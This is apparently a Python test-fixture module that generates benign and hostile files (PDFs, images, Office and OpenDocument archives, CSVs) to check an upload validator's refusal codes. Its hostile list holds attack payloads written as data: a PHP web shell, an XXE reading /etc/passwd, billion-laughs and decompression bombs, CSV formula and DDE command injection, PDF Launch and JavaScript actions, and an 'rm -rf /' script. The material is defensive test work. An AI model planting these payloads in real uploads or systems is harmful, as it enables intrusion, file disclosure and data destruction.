"""Honest and hostile files, made in the test: no sample lies in the repository.

HONEST: name → content. HOSTILE: (name, content, code of the refusal). Costly ones are made when first asked for.
"""

import io
import struct
import warnings
import zipfile
import zlib

import pikepdf
from PIL import Image

OOXML = {
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation"),
}
ODF = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}


def archive(members: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as made:
        for name, content in members.items():
            made.writestr(name, content)
    return buffer.getvalue()


def office(extension: str, members: dict[str, bytes] | None = None) -> bytes:
    main, kind = OOXML[extension]
    content_type = f"application/vnd.openxmlformats-officedocument.{kind}.main+xml"
    types = f'<Types><Override ContentType="{content_type}"/></Types>'
    return archive({"[Content_Types].xml": types.encode(), main: b"<document/>", **(members or {})})


def opendocument(extension: str, members: dict[str, bytes] | None = None) -> bytes:
    mimetype = f"application/vnd.oasis.opendocument.{ODF[extension]}".encode()
    return archive({"mimetype": mimetype, "content.xml": b"<x/>", **(members or {})})


def pdf(change=None, **options) -> bytes:
    """A PDF of one page; `change(document)` before it is written."""
    document = pikepdf.new()
    document.add_blank_page()
    if change:
        change(document)
    buffer = io.BytesIO()
    document.save(buffer, deterministic_id=not options.get("encryption"), **options)
    return buffer.getvalue()


def in_objects(change) -> bytes:
    """The same with every object in compressed streams, where a search of the bytes finds nothing."""
    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def picture(kind: str, mode: str = "RGB", size=(64, 48), **options) -> bytes:
    buffer = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert(mode).save(buffer, kind, **options)
    return buffer.getvalue()


def exif(**more) -> Image.Exif:
    """What a telephone writes: turned a quarter, its make, where it was."""
    said = Image.Exif()
    said[0x0112], said[0x010F], said[0x9003] = 6, "Zirkonia Phone", "2026:11:20 08:00:00"
    said.get_ifd(0x8825).update({1: "N", 2: (48.0, 41.0, 30.0), 3: "E", 4: (6.0, 11.0, 0.0)})
    return said


def png(packed: bytes, size=(8, 8), *, interlaced: bool = False, spoil=lambda chunks: chunks) -> bytes:
    """A PNG of eight-bit grey around these compressed bytes; `spoil` changes its chunks, (name, body) each."""
    header = struct.pack(">IIBBBBB", *size, 8, 0, 0, 0, interlaced)
    chunks = spoil([(b"IHDR", header), (b"IDAT", packed), (b"IEND", b"")])
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        for name, body in chunks
    )


def rows(width: int, height: int, kind: int = 0) -> bytes:
    """Pixels before they are compressed, each row behind its kind of filter."""
    return b"".join(bytes([kind, *range(width)]) for _row in range(height))


# The seven passes of a picture of eight by eight: one pixel, one, two in a row, four in two rows, and so on.
ADAM7 = b"".join(rows(*size) for size in ((1, 1), (1, 1), (2, 1), (2, 2), (4, 2), (4, 4), (8, 4)))
EIGHT = zlib.compress(rows(8, 8))


def _in_parts(chunks):
    head, (name, body), end = chunks
    return [head, (name, body[:9]), (name, body[9:]), end]


def _apart(chunks):
    """Its pixels in two runs with something between: readers differ in what they take."""
    head, one, two, end = _in_parts(chunks)
    return [head, one, (b"tEXt", b"a\0b"), two, end]


def _wrong_sum() -> bytes:
    whole = bytearray(png(EIGHT))
    whole[-13] ^= 1  # in the sum of IDAT, the last but one chunk
    return bytes(whole)


def _action(**action):
    def change(document):
        document.Root.OpenAction = pikepdf.Dictionary(**action)

    return change


def _button(document):
    """A script on a mark of the page, its name spelt with escapes."""
    action = pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS="app.alert(1)")
    mark = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action)
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(mark)])


def _attach(document):
    document.attachments["calcul.exe"] = pikepdf.AttachedFileSpec(document, b"MZ\x90\x00")


def _talk_of_scripts(document):
    document.docinfo["/Title"] = "Cours de /JavaScript (et /Launch)"
    document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])


def pdf_bomb() -> bytes:
    """An object stream of two megabytes that unfolds to two thousand million: read without limits it takes 2 GB."""
    squeezer = zlib.compressobj(9)
    packed = b"".join(squeezer.compress(bytes(10_000_000)) for _ in range(200)) + squeezer.flush()
    head = b"9 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    body = b"%PDF-1.7\n" + head + packed + b"\nendstream endobj\n"
    entries = b"\0\0\0\0\0\0\xff" + (b"\2" + struct.pack(">IH", 9, 0)) + (b"\1" + struct.pack(">IH", 9, 0))
    table = b"8 0 obj<</Type/XRef/Size 10/Root 1 0 R/W[1 4 2]/Index[0 2 9 1]/Length %d>>stream\n" % len(
        entries
    )
    return body + table + entries + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


def zip_twice() -> bytes:
    """Two members of one name: which is read depends on the reader."""
    buffer = io.BytesIO(office("docx"))
    with zipfile.ZipFile(buffer, "a") as made, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile would tell
        made.writestr("word/document.xml", b"<other/>")
    return buffer.getvalue()


def locked_zip() -> bytes:
    """The flag « encrypted » on every member, as ZIP's own encryption sets it."""
    whole = bytearray(office("docx"))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = whole.find(mark)
        while at >= 0:
            whole[at + offset] |= 1
            at = whole.find(mark, at + 4)
    return bytes(whole)


PDF = pdf()
PNG = picture("PNG")
JPEG = picture("JPEG")
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(200)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><script>alert(1)</script></html>"
PHP = b"<?php system($_GET['c']); ?>"
ZIP = archive({"a.txt": b"a"})
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
XXE = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><d>&e;</d>'
LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
_RELS = (
    b'<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    b'Target="%s" TargetMode="External"/></Relationships>'
)
_LINK = _RELS % (b"hyperlink", b"https://www.exemple.example/")
_LOCAL_TEMPLATE = _RELS % (b"attachedTemplate", b"file:///C:/Modeles/Normal.dotm")
_REMOTE_TEMPLATE = _RELS % (b"attachedTemplate", b"https://ailleurs.example/modele.dotm")

HONEST = {
    "plan.pdf": PDF,
    "plan-compact.pdf": in_objects(None),
    "parle-de-scripts.pdf": pdf(_talk_of_scripts),
    "sans-mot-de-passe.pdf": pdf(encryption=pikepdf.Encryption(owner="x", user="")),
    "fin-de-ligne.pdf": PDF + b"\r\n\r\n",
    "PHOTO.JPG": JPEG,
    "photo.jpeg": picture("JPEG", exif=exif(), comment=b"atelier"),
    "progressive.jpg": picture("JPEG", progressive=True),
    "grise.jpg": picture("JPEG", "L"),
    "quadri.jpg": picture("JPEG", "CMYK"),
    "photo-animee.jpg": JPEG + b"\0\0\0\x18ftypmp42" + bytes(300),
    "schema.png": PNG,
    "transparent.png": picture("PNG", "RGBA"),
    "palette.png": picture("PNG", "P"),
    "noir-et-blanc.png": picture("PNG", "1", (61, 7)),
    "seize-bits.png": picture("PNG", "I;16"),
    "entrelacee.png": png(zlib.compress(ADAM7), interlaced=True),
    "animee.png": picture("PNG", save_all=True, append_images=[Image.new("RGB", (64, 48))]),
    "en-morceaux.png": png(EIGHT, spoil=_in_parts),
    "une-ligne-de-trop.png": png(zlib.compress(rows(8, 9))),
    "note.docx": office("docx", {"word/_rels/document.xml.rels": _LINK, "word/media/image1.svg": SVG}),
    "modele-local.docx": office("docx", {"word/_rels/settings.xml.rels": _LOCAL_TEMPLATE}),
    "releves.xlsx": office("xlsx", {"xl/sharedStrings.xml": "<sst>été</sst>".encode("utf-16")}),
    "presentation.pptx": office("pptx", {"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": office("xlsx")}),
    "note.odt": opendocument("odt"),
    "releves.ods": opendocument("ods"),
    "presentation.odp": opendocument("odp"),
    "releves.csv": "date;température\n2026-01-01;-720\n".encode(),
    "unicode.csv": "date\ttempérature\r\n2026-01-01\t+720\r\n".encode("utf-16"),
    "excel.csv": "date;température\r\n2026-01-01;+720\r\n".encode("cp1252"),
    "note.txt": "\ufeffMZ, une commune de la vallée".encode(),
    "lisez-moi.md": b"# Four 7\n\n- 720 degres | ici\n- a < b et c > d\n",
}

HOSTILE = [
    ("vide.pdf", b"", "empty"),
    # the name alone
    ("sans-extension", PDF, "extension"),
    ("archive.zip", ZIP, "archive"),
    ("programme.exe", EXE, "program"),
    ("page.html", HTML, "html"),
    ("dessin.svg", SVG, "svg"),
    ("ancien.doc", OLE, "old_office"),
    ("macro.docm", office("docx"), "macros"),
    ("photo.heic", b"\0\0\0\x18ftypheic", "picture"),
    ("inconnu.xyz", b"abc", "extension"),
    # one thing under the name of another
    ("programme.pdf", EXE, "program"),
    ("programme.exe.png", EXE, "program"),
    ("programme.txt", ELF, "program"),
    ("page.pdf", HTML, "html"),
    ("page.txt", HTML, "html"),
    ("page.csv", b"<html><body>a;b</body></html>", "html"),
    ("dessin.png", SVG, "svg"),
    ("dessin.txt", b'<?xml version="1.0"?>' + SVG, "svg"),
    ("plan.png", PDF, "content"),
    ("photo.pdf", JPEG, "content"),
    ("photo.png", JPEG, "content"),
    ("script.txt", b"#!/bin/sh\nrm -rf /\n", "program"),
    ("script.md", b"salut\n" + PHP, "program"),
    ("note.txt", b"{\\rtf1 note}", "old_office"),
    ("nul.csv", b"a;b\x00;c\n", "content"),
    ("nul16.csv", "a;b\0".encode("utf-16"), "content"),
    ("coupe16.csv", "a;b".encode("utf-16")[:-1], "content"),
    ("dessin16.txt", SVG.decode().encode("utf-16"), "svg"),
    ("utf32.csv", "a;b".encode("utf-32"), "content"),
    ("commande.csv", b"date;valeur\n2026;=cmd|' /C calc'!A0\n", "macros"),
    ("renomme.docx", office("xlsx"), "content"),
    ("renomme.odt", opendocument("ods"), "content"),
    ("archive.docx", ZIP, "archive"),
    ("rar.docx", b"Rar!\x1a\x07\x01\x00" + bytes(50), "archive"),
    ("gzip.txt", b"\x1f\x8b\x08" + bytes(50), "archive"),
    ("ancien.docx", OLE, "old_office"),
    # two things in one
    ("polyglotte.pdf", PDF + HTML, "polyglot"),
    ("page-devant.pdf", b"%PDF-1.7\n" + HTML + PDF, "polyglot"),
    ("archive-derriere.pdf", PDF + ZIP, "polyglot"),
    ("programme-derriere.pdf", PDF + b"\n" + EXE, "polyglot"),
    ("longue-suite.pdf", PDF + b"x" * 2000, "polyglot"),
    ("polyglotte.png", PNG + HTML, "polyglot"),
    ("archive-derriere.png", PNG + ZIP, "polyglot"),
    ("archive-derriere.jpg", JPEG + ZIP, "polyglot"),
    ("polyglotte.jpg", JPEG + PHP, "polyglot"),
    ("commentaire.jpg", picture("JPEG", comment=PHP), "polyglot"),
    ("plan-dedans.jpg", picture("JPEG", comment=b"%PDF-1.7"), "polyglot"),
    ("rar-derriere.jpg", JPEG + b"Rar!\x1a\x07\x01\x00" + bytes(50), "polyglot"),
    ("programme-derriere.docx", office("docx") + EXE, "polyglot"),
    (
        "plan-dedans.docx",
        archive({"a.txt": PDF} | {"word/document.xml": b"<d/>"}, zipfile.ZIP_STORED),
        "polyglot",
    ),
    # what a PDF should not do
    ("script.pdf", pdf(_action(S=pikepdf.Name("/JavaScript"), JS="app.alert(1)")), "script"),
    ("script-cache.pdf", in_objects(_button), "script"),
    ("script-echappe.pdf", pdf(_button).replace(b"/JavaScript", b"/J#61vaScript"), "script"),
    ("lance.pdf", pdf(_action(S=pikepdf.Name.Launch, F="cmd.exe")), "script"),
    ("envoie.pdf", in_objects(_action(S=pikepdf.Name.SubmitForm, F="https://ailleurs.example/")), "script"),
    ("fichiers-joints.pdf", in_objects(_attach), "embedded"),
    ("mot-de-passe.pdf", pdf(encryption=pikepdf.Encryption(owner="x", user="secret")), "encrypted"),
    ("tronque.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<", "damaged"),
    (
        "sans-page.pdf",
        b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
        "damaged",
    ),
    ("bombe.pdf", pdf_bomb, "damaged"),
    # pictures
    ("geante.png", png(zlib.compress(bytes(1000)), (60_000, 60_000)), "pixels"),
    ("grande.png", png(zlib.compress(bytes(1000)), (8000, 5001)), "pixels"),
    ("tronquee.png", PNG[:-40], "damaged"),
    ("tronquee.jpg", picture("JPEG", size=(800, 600))[:-2000], "damaged"),
    ("menteuse.png", png(zlib.compress(bytes(1000)), (100, 100)), "damaged"),
    ("sans-la-derniere-ligne.png", png(zlib.compress(rows(8, 7))), "damaged"),
    ("sans-le-dernier-pixel.png", png(zlib.compress(rows(8, 8)[:-1])), "damaged"),
    ("sans-la-septieme-passe.png", png(zlib.compress(ADAM7[:-36]), interlaced=True), "damaged"),
    ("filtre-inconnu.png", png(zlib.compress(rows(8, 7) + rows(8, 1, 5))), "damaged"),
    ("sans-fin.png", png(EIGHT[:-2]), "damaged"),
    ("autre-somme.png", png(EIGHT[:-1] + b"?"), "damaged"),
    ("autre-somme-du-morceau.png", _wrong_sum(), "damaged"),
    ("sans-pixels.png", png(b"", spoil=lambda chunks: [chunks[0], chunks[2]]), "damaged"),
    ("sans-surface.png", png(EIGHT, (0, 8)), "damaged"),
    ("deux-entetes.png", png(EIGHT, spoil=lambda chunks: [chunks[0], *chunks]), "damaged"),
    ("en-deux-fois.png", png(EIGHT, spoil=_apart), "damaged"),
    ("suite-cachee.png", lambda: png(zlib.compress(rows(8, 8) + bytes(5_000_000))), "bomb"),
    ("faux.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(40), "damaged"),
    # office documents
    ("tronque.docx", office("docx")[:60], "damaged"),
    ("faux.docx", b"PK\x03\x04" + bytes(400), "damaged"),
    ("double.docx", zip_twice, "damaged"),
    ("verrouille.docx", locked_zip, "encrypted"),
    ("chiffre.xlsx", OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    (
        "chiffre.odt",
        opendocument("odt", {"META-INF/manifest.xml": b"<manifest:encryption-data/>"}),
        "encrypted",
    ),
    ("macro.docx", office("docx", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macros"),
    (
        "macro-cachee.docx",
        archive(
            {
                "[Content_Types].xml": b'<Override ContentType="application/vnd.ms-office.vbaProject"/>',
                "word/document.xml": b"<d/>",
                "word/innocent.dat": b"\xd0\xcf\x11\xe0",
            }
        ),
        "macros",
    ),
    ("controle.docx", office("docx", {"word/activeX/activeX1.xml": b"<x/>"}), "macros"),
    ("macro.odt", opendocument("odt", {"Basic/Standard/Module1.xml": b"Sub Main"}), "macros"),
    (
        "dde.docx",
        office("docx", {"word/header1.xml": b"<w:instrText> DDEAUTO c:\\cmd.exe</w:instrText>"}),
        "macros",
    ),
    ("modele-distant.docx", office("docx", {"word/_rels/settings.xml.rels": _REMOTE_TEMPLATE}), "remote"),
    (
        "paquet.docx",
        office("docx", {"word/embeddings/o.bin": OLE + "Ole10Native".encode("utf-16-le")}),
        "embedded",
    ),
    ("programme-dedans.pptx", office("pptx", {"ppt/media/image1.png": EXE}), "embedded"),
    ("xxe.xlsx", office("xlsx", {"xl/sharedStrings.xml": XXE}), "entities"),
    ("xxe16.xlsx", office("xlsx", {"xl/styles.xml": XXE.decode().encode("utf-16")}), "entities"),
    ("rires.docx", office("docx", {"word/styles.xml": LAUGHS}), "entities"),
    ("xxe.ods", opendocument("ods", {"styles.xml": XXE}), "entities"),
    ("bombe.docx", lambda: office("docx", {"word/media": bytes(5_000_000)}), "bomb"),
    (
        "fourmiliere.xlsx",
        lambda: archive({f"xl/{n}": b"" for n in range(2100)} | {"xl/workbook.xml": b"x"}),
        "bomb",
    ),
]


def content_of(made) -> bytes:
    return made() if callable(made) else made
